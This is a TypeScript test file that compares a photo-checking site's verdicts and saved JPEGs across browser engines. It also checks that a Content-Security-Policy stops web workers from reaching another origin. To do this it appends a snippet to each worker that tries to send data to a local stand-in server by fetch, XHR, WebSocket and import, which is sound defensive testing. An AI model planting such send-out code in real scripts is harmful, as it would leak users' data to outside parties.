import { appendFileSync, cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ENGINE_NAMES, ENGINES, openChromium } from '../../tools/engines/engines'
import type { EnginePage } from '../../tools/engines/engine-page'
import { serveDemo, type DemoHost } from '../../tools/serve/demo-host'
import { serve, type StaticServer } from '../../tools/serve/serve'
import { drawJpeg } from '../../tools/pictures/drawn-jpeg'
import { resetPage, checkOnPage, checkSample, openPage, saveOnPage, type ShownCheck } from '../support/page-driver'
import { readJpeg } from '../../tools/pictures/read-jpeg'

/**
 * The page as it is built, in Firefox and WebKitGTK. WebKitGTK has no WebGL in workers, so its models run on the page
 * itself. Files are given, not drawn there: each engine rasterises vectors and writes JPEGs in its own way. One page of
 * each engine serves all tests, the element's too. In this copy of the site each worker tries to send something to
 * another origin as soon as it starts.
 */
interface EngineResult {
  readonly faultless: readonly ShownCheck[]
  readonly faulty: readonly ShownCheck[]
  readonly sample: readonly ShownCheck[]
  readonly saved: Buffer
  readonly scripts: readonly string[]
}

let photos: { readonly faultless: Buffer; readonly faulty: Buffer }
let chromium: EngineResult
/** A school's page with the element in it. */
let demo: DemoHost
/** Another origin, which must hear nothing; the copy of the site; the same without its policy. */
let stranger: StaticServer
let site: StaticServer
let folder: string

/** By every way out that a worker has. Each names the worker and the way in its path. */
const SEND_AWAY = (origin: string, worker: string): string => `
;{
  const at = way => '${origin}/' + way + '/${worker}'
  fetch(at('fetch'), { mode: 'no-cors', method: 'POST', body: 'pixels' }).catch(() => {})
  try { const request = new XMLHttpRequest(); request.open('POST', at('xhr')); request.send('pixels') } catch {}
  try { new WebSocket(at('socket').replace('http', 'ws')) } catch {}
  import(at('import')).catch(() => {})
}
`

function copySite(): void {
  folder = mkdtempSync(join(tmpdir(), 'zhaojian-policy-'))
  cpSync('dist', folder, { recursive: true })
  for (const name of readdirSync(join(folder, 'lib/workers')))
    appendFileSync(join(folder, 'lib/workers', name), SEND_AWAY(stranger.url, name))
}

async function checkInEngine(page: EnginePage): Promise<EngineResult> {
  await openPage(page, `${site.url}/check/`)
  const faultless = await checkOnPage(page, photos.faultless, 'faultless.png')
  const saved = await saveOnPage(page)
  await resetPage(page)
  const faulty = await checkOnPage(page, photos.faulty, 'faulty.jpg')
  await resetPage(page)
  const sample = await checkSample(page)
  const scripts = await page.evaluate(
    () => performance.getEntriesByType('resource').map(({ name }) => name.replace(/^.*\//, '')),
    null,
  )
  return { faultless, saved, faulty, sample, scripts }
}

beforeAll(async () => {
  photos = {
    // Nothing about a PNG's pixels is left to the decoder, so that the saved bytes can be compared.
    faultless: await sharp(await drawJpeg({ width: 1500, height: 2000 }))
      .png()
      .toBuffer(),
    faulty: await drawJpeg({
      width: 1200,
      height: 1600,
      earsCovered: { left: 1 },
      glasses: { kind: 'tinted' },
      fringe: { right: 0.9 },
      mouthGap: 0.2,
      roll: 6,
      light: { balance: 3 },
      wall: { gradient: 14 },
    }),
  }
  stranger = await serve({ '/': 'tools/serve/blank' })
  copySite()
  site = await serve({ '/check/': folder })
  demo = await serveDemo()
  const page = await openChromium()
  try {
    chromium = await checkInEngine(page)
  } finally {
    await page.close()
  }
})
afterAll(async () => {
  await demo?.close()
  await site?.close()
  await stranger?.close()
  rmSync(folder, { recursive: true, force: true })
})

describe.each(ENGINE_NAMES)('%s', name => {
  let page: EnginePage | undefined
  let result: EngineResult
  const isThere = ENGINES[name].isThere()
  beforeAll(async () => {
    if (!isThere) return
    page = await ENGINES[name].open()
    result = await checkInEngine(page)
  })
  afterAll(() => page?.close())

  it.skipIf(!isThere)('gives Chromium’s verdicts', () => {
    expect(chromium.faultless.length).toBeGreaterThanOrEqual(44)
    expect(new Set(chromium.faulty.map(({ verdict }) => verdict))).toEqual(new Set(['pass', 'fail', 'warn', 'unknown']))
    // The engine's own raster of the sample differs by a shade; no verdict hangs on it.
    for (const photo of ['faultless', 'faulty', 'sample'] as const) {
      expect(result[photo].map(({ id }) => id)).toEqual(chromium[photo].map(({ id }) => id))
      const differing = result[photo].flatMap((check, i) => {
        const there = chromium[photo][i]!
        return check.verdict === there.verdict
          ? []
          : [`${photo} ${check.id}: ${check.verdict} (${check.value}), Chromium ${there.verdict} (${there.value})`]
      })
      expect(differing).toEqual([])
    }
  })

  it.skipIf(!isThere)('loads the way without workers only where it is needed', () => {
    const loadsIt = ({ scripts }: EngineResult): boolean =>
      scripts.some(script => script.startsWith('main-thread-vision'))
    expect([loadsIt(chromium), loadsIt(result)]).toEqual([false, name === 'webkit'])
  })

  it.skipIf(!isThere)('saves the very bytes that Chromium saves', () => {
    expect(result.saved.equals(chromium.saved)).toBe(true)
    expect(readJpeg(result.saved)).toMatchObject({
      baseline: true,
      components: 3,
      density: { x: 300, y: 300, unit: 1 },
      hasExif: false,
    })
  })

  // Found by its own address, greeted and dressed, as a script of either kind.
  it.skipIf(!isThere).each(['', 'module.html'])('opens the element in a school’s page: /%s', async file => {
    await page!.goto(`${demo.host.url}/${file}`)
    await expect
      .poll(() => page!.evaluate(() => document.querySelector('.log')?.textContent ?? '', null))
      .toContain('ready example-college 2026.1')
    await expect
      .poll(() =>
        page!.evaluate(
          () => document.querySelector('zhaojian-check')!.shadowRoot!.querySelector('iframe')!.offsetHeight,
          null,
        ),
      )
      // More than the height it begins with (embed/host/element-styles.ts): the page has sent its own, which the
      // machine's fonts decide.
      .toBeGreaterThan(480)
  })
})

it('from no worker does anything reach another origin, by the policy in the page alone', () =>
  expect(stranger.requests.map(({ path }) => path)).toEqual([]))

it('without that policy it would: the workers do try', async () => {
  const html = join(folder, 'index.html')
  writeFileSync(html, readFileSync(html, 'utf8').replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''))
  const page = await openChromium()
  try {
    await page.goto(`${site.url}/check/`)
    await expect
      .poll(() => [...new Set(stranger.requests.map(({ path }) => path))])
      .toEqual(expect.arrayContaining(['/fetch/face.js', '/fetch/person.js', '/fetch/photo.js', '/xhr/photo.js']))
  } finally {
    await page.close()
  }
})
